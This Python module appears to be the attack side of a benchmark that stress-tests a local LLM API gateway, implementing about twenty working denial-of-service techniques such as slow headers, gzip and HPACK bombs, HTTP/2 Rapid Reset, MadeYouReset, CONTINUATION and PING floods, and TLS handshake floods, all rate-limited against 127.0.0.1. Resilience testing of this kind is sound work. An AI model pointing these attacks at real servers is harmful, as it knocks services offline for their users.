# SPDX-License-Identifier: Apache-2.0
"""What each attack sends, for as long as it is told, at a bounded rate, from its own address.

An attack is a function of its target and of the time when it has to end. It runs in a process of
its own, opens connections anew as the gateway closes them, and gives what it did: a count.
"""

import contextlib
import gzip
import os
import select
import socket
import ssl
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

SOURCE = "127.0.0.2"
KEY = "sk-bench"
PATH = "/v1/chat/completions"
HEAD = f"POST {PATH} HTTP/1.1\r\nHost: bench\r\nAuthorization: Bearer {KEY}\r\n".encode()
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@dataclass
class Target:
    """Where the gateway listens, in clear and through TLS."""

    port: int
    secure: int

    def connect(self, port: int | None = None, buffer: int = 0) -> socket.socket:
        made = socket.socket()
        try:
            if buffer:
                made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
            made.settimeout(5)
            made.bind((SOURCE, 0))
            made.connect(("127.0.0.1", port or self.port))
            made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        except OSError:
            made.close()
            raise
        return made


def paced(rate: float, end: float) -> Iterator[int]:
    """Counts up so many times a second until the end; what was missed is not made up for."""
    number, due = 0, time.monotonic()
    while (now := time.monotonic()) < end:
        if now < due:
            time.sleep(min(due, end) - now)
            continue
        yield number
        number += 1
        due = max(due + 1 / rate, now - 0.1)


def read_away(held: list[socket.socket]) -> list[socket.socket]:
    """Reads what there is; those that are still open."""
    left = []
    for sock in held:
        with contextlib.suppress(OSError):
            if sock.recv(65_536, socket.MSG_DONTWAIT):
                left.append(sock)
                continue
            sock.close()
            continue
        if sock.fileno() >= 0 and not is_over(sock):
            left.append(sock)
        else:
            sock.close()
    return left


def is_over(sock: socket.socket) -> bool:
    try:
        return sock.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def trickle(target: Target, end: float, count: int, first: bytes, byte: bytes) -> int:
    """So many connections at once, each of which sends a byte a second."""
    held: list[socket.socket] = []
    opened = 0
    for _ in paced(10, end):
        began = time.monotonic()
        while len(held) < count and time.monotonic() < began + 0.05:
            with contextlib.suppress(OSError):
                held.append(target.connect())
                held[-1].sendall(first)
                opened += 1
        # A tenth of them in each tenth of a second.
        part, rest = held[: count // 10], held[count // 10 :]
        for sock in part:
            with contextlib.suppress(OSError):
                sock.send(byte, socket.MSG_DONTWAIT)
        held = rest + read_away(part)
    for sock in held:
        sock.close()
    return opened


def slow_headers(target: Target, end: float) -> int:
    return trickle(target, end, 1_000, HEAD + b"X-Slow: ", b"x")


def slow_bodies(target: Target, end: float) -> int:
    return trickle(target, end, 1_000, HEAD + b"Content-Length: 1000000\r\n\r\n{", b" ")


def slow_readers(target: Target, end: float) -> int:
    """Streams without an end that nobody reads."""
    body = (
        b'{"model":"m","messages":[{"role":"user","content":"x"}],"stream":true,'
        b'"max_tokens":100,"x_events":1000000,"x_gap_ms":10}'
    )
    request = HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body
    held = []
    for _ in paced(100, end):
        if len(held) < 100:
            with contextlib.suppress(OSError):
                held.append(target.connect(buffer=4_096))
                held[-1].sendall(request)
    for sock in held:
        sock.close()
    return len(held)


def idle_connections(target: Target, end: float) -> int:
    held = []
    for _ in paced(2_000, end):
        if len(held) < 5_000:
            with contextlib.suppress(OSError):
                held.append(target.connect())
    for sock in held:
        sock.close()
    return len(held)


def connection_flood(target: Target, end: float) -> int:
    """More connections than one address may have, and on and on."""
    held: list[socket.socket] = []
    opened = 0
    for number in paced(2_000, end):
        with contextlib.suppress(OSError):
            held.append(target.connect())
            opened += 1
        if number % 500 == 499:
            held = read_away(held)
    for sock in held:
        sock.close()
    return opened


# Requests over HTTP/1.1.


def requests(target: Target, end: float, rate: float, request: bytes, piece: int = 1 << 16) -> int:
    """The same request again and again, each on a connection of its own."""
    sent = 0
    for _ in paced(rate, end):
        with contextlib.suppress(OSError), target.connect() as sock:
            for at in range(0, len(request), piece):
                sock.sendall(request[at : at + piece])
                if is_answered(sock):
                    break
            sock.settimeout(1)
            while sock.recv(65_536):
                break
            sent += 1
    return sent


def is_answered(sock: socket.socket) -> bool:
    return bool(select.select([sock], [], [], 0)[0])


def header_flood(target: Target, end: float) -> int:
    fields = b"".join(b"X-%d: %s\r\n" % (number, b"y" * 230) for number in range(500))
    return requests(target, end, 500, HEAD + fields + b"\r\n")


def huge_bodies(target: Target, end: float) -> int:
    """As large as a body may be, and no JSON only at the very end."""
    text = b'{"model":"m","messages":[{"role":"user","content":"' + b"word " * 3_300_000
    request = HEAD + b"Content-Length: %d\r\n\r\n" % len(text) + text
    return requests(target, end, 5, request, 1 << 18)


def gzip_bomb(target: Target, end: float) -> int:
    packed = gzip.compress(b'{"model":"' + b"a" * (64 << 20), 9)
    head = HEAD + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(packed)
    return requests(target, end, 100, head + packed)


def chunk_extensions(target: Target, end: float) -> int:
    chunk = b"1;" + b"x=y;" * 500 + b"z\r\n \r\n"
    return requests(target, end, 200, HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 100)


def trailer_flood(target: Target, end: float) -> int:
    fields = b"".join(b"X-%d: %s\r\n" % (number, b"y" * 100) for number in range(2_000))
    request = HEAD + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n" + fields + b"\r\n"
    return requests(target, end, 200, request)


def pipelining_flood(target: Target, end: float) -> int:
    """Requests behind each other on a few connections, whose answers are not waited for."""
    request = f"GET /v1/models HTTP/1.1\r\nHost: bench\r\nAuthorization: Bearer {KEY}\r\n\r\n"
    batch = request.encode() * 50
    held: list[socket.socket] = []
    sent = 0
    for number in paced(40, end):
        while len(held) < 4:
            with contextlib.suppress(OSError):
                held.append(target.connect())
                held[-1].setblocking(False)
        try:
            held[number % 4].send(batch)
            sent += 50
        except BlockingIOError:
            pass
        except OSError:
            held.pop(number % 4).close()
        # The first two are never read.
        held = held[:2] + read_away(held[2:])
    for sock in held:
        sock.close()
    return sent


# HTTP/2.


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + (
        payload
    )


def literal(text: bytes) -> bytes:
    assert len(text) < 127
    return bytes((len(text),)) + text


# RFC 7541: POST and http by their index, path, authority and authorization as literals.
BLOCK = (
    b"\x83\x86\x04" + literal(PATH.encode()) + b"\x01" + literal(b"bench") + b"\x0f\x08"
    + literal(f"Bearer {KEY}".encode())
)
BODY = b'{"model":"m","messages":[{"role":"user","content":"x"}],"max_tokens":10}'


def frames(
    target: Target, end: float, batch: Callable[[int], bytes], settings: bytes = b"",
    rate: float = 500, first: bytes = b"",
) -> int:
    """Batch after batch on one connection, until it is closed; then on another."""
    sent, number, sock = 0, 0, None
    for _ in paced(rate, end):
        try:
            if sock is None:
                sock = target.connect()
                sock.sendall(PREFACE + frame(4, 0, 0, settings) + first)
                number = 0
            sock.sendall(batch(number))
            number += 1
            sent += 1
            if is_answered(sock) and not sock.recv(65_536):
                raise ConnectionResetError
        except OSError:
            if sock is not None:
                sock.close()
            sock = None
    if sock is not None:
        sock.close()
    return sent


def ended_streams(target: Target, end: float, kind: int, value: bytes) -> int:
    """Twenty requests in a batch, each ended by one more frame of its stream."""

    def batch(number: int) -> bytes:
        streams = range(number * 40 + 1, number * 40 + 41, 2)
        return b"".join(
            frame(1, 4, s, BLOCK) + frame(0, 1, s, BODY) + frame(kind, 0, s, value)
            for s in streams
        )

    return frames(target, end, batch)


def rapid_reset(target: Target, end: float) -> int:
    return ended_streams(target, end, 3, b"\0\0\0\x08")


def made_you_reset(target: Target, end: float) -> int:
    """The gateway itself has to reset each: its window is made too large."""
    return ended_streams(target, end, 8, b"\x7f\xff\xff\xff")


def continuations(target: Target, end: float) -> int:
    return frames(target, end, lambda _: frame(9, 0, 1) * 20, first=frame(1, 0, 1, BLOCK))


def pings(target: Target, end: float) -> int:
    return frames(target, end, lambda _: frame(6, 0, 0, b"12345678") * 50)


def settings(target: Target, end: float) -> int:
    return frames(target, end, lambda _: frame(4, 0, 0, b"\0\4\0\0\xff\xff") * 50)


def empty_data(target: Target, end: float) -> int:
    return frames(target, end, lambda _: frame(0, 0, 1) * 50, first=frame(1, 4, 1, BLOCK))


def hpack_bomb(target: Target, end: float) -> int:
    """A field of 3,900 bytes is put into the table once, and named thousands of times."""
    size = b"\x7f" + bytes(((3_900 - 127) & 127 | 128, (3_900 - 127) >> 7))
    field = b"\x40" + literal(b"bomb") + size + b"x" * 3_900

    def batch(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(1, 0, stream, BLOCK + field) + b"".join(
            frame(9, 0, stream, b"\xbe" * 16_000) for _ in range(8)
        )

    return frames(target, end, batch, rate=50)


def zero_windows(target: Target, end: float) -> int:
    """Answers are asked for on many streams, and never taken."""
    held: list[socket.socket] = []
    for number in paced(20, end):
        if number < 20:
            with contextlib.suppress(OSError):
                sock = target.connect()
                # SETTINGS_INITIAL_WINDOW_SIZE 0.
                sock.sendall(PREFACE + frame(4, 0, 0, b"\0\4\0\0\0\0"))
                streams = range(1, 200, 2)
                sock.sendall(
                    b"".join(frame(1, 4, s, BLOCK) + frame(0, 1, s, BODY) for s in streams)
                )
                held.append(sock)
    for sock in held:
        sock.close()
    return 100 * len(held)


# TLS.


def handshakes(target: Target, end: float) -> int:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    made = 0
    for _ in paced(300, end):
        with contextlib.suppress(OSError), target.connect(target.secure) as sock:
            context.wrap_socket(sock).close()
            made += 1
    return made


ATTACKS: dict[str, Callable[[Target, float], int]] = {
    "slow headers": slow_headers,
    "slow bodies": slow_bodies,
    "slow readers": slow_readers,
    "idle connections": idle_connections,
    "connection flood": connection_flood,
    "header flood": header_flood,
    "huge bodies": huge_bodies,
    "gzip bomb": gzip_bomb,
    "rapid reset": rapid_reset,
    "MadeYouReset": made_you_reset,
    "CONTINUATION flood": continuations,
    "PING flood": pings,
    "SETTINGS flood": settings,
    "empty DATA flood": empty_data,
    "zero windows": zero_windows,
    "HPACK bomb": hpack_bomb,
    "chunk extensions": chunk_extensions,
    "trailer flood": trailer_flood,
    "pipelining flood": pipelining_flood,
    "TLS handshakes": handshakes,
}


def run(name: str, target: Target, seconds: float) -> int:
    """In a process of its own, behind everybody else where there is too little of the machine."""
    os.nice(10)
    return ATTACKS[name](target, time.monotonic() + seconds)
